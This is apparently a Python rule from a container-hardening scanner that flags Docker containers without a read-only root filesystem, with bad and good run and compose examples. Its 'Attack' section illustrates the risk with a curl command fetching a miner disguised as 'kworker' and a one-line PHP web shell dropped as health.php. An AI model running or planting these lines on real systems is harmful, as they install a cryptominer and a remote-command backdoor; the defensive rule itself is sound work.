"""Root filesystem writable.

Who takes over a process wants to keep it: drop a tool, replace a library, add a cron job or a web shell to what the
program serves. In a container with a read-only root none of that can be written. What the program itself must write gets
a folder of its own: a tmpfs for what may be lost, a volume for what may not. A writable root also fills the host's disk.

## Attack
    curl -so /usr/local/bin/kworker http://203.0.113.7/miner && chmod +x /usr/local/bin/kworker
    echo '<?php system($_GET["c"]);' > /var/www/html/health.php   # still there after the hole is patched

## Bad command
    docker run -d --name shop -v shop-data:/data acme/shop:12

## Good command
    docker run -d --name shop --read-only --tmpfs /tmp:size=64m -v shop-data:/data acme/shop:12

## Bad compose
    services:
      shop:
        image: acme/shop:12
        read_only: false

## Good compose
    services:
      shop:
        image: acme/shop:12
        read_only: true
        tmpfs:
          - /tmp:size=64m

## What may break
Programs that write beside their data: pid files in `/run`, caches, logs, a config that the entrypoint renders. `docker
diff CONTAINER` of one that has run a while lists every path written; give each a tmpfs or a volume.

## References
- CIS Docker Benchmark 1.6, 5.13
- OWASP Docker Security Cheat Sheet, RULE #8
- https://docs.docker.com/reference/cli/docker/container/run/#read-only
- https://docs.docker.com/reference/compose-file/services/#read_only
"""

from __future__ import annotations

from collections.abc import Iterator

from scanner.finding import Severity
from scanner.hardening import missing
from scanner.launch import Launch
from scanner.posture import a_tmpfs, has_tmpfs
from scanner.remedy import Change, Remedy
from scanner.rule import Fault, rule


@rule(severity=Severity.MEDIUM, cwe=732, absence=True, needs=("HostConfig.ReadonlyRootfs",))
def check(launch: Launch) -> Iterator[Fault]:
    message = "writable root filesystem: what an intruder leaves there stays"
    changes = [Change("HostConfig.ReadonlyRootfs", "true")]
    if "HostConfig.Tmpfs" not in launch.supplies and not has_tmpfs(launch):
        changes.append(a_tmpfs())
    yield from missing([launch.host.readonly_rootfs], bool, message, Remedy(tuple(changes)))
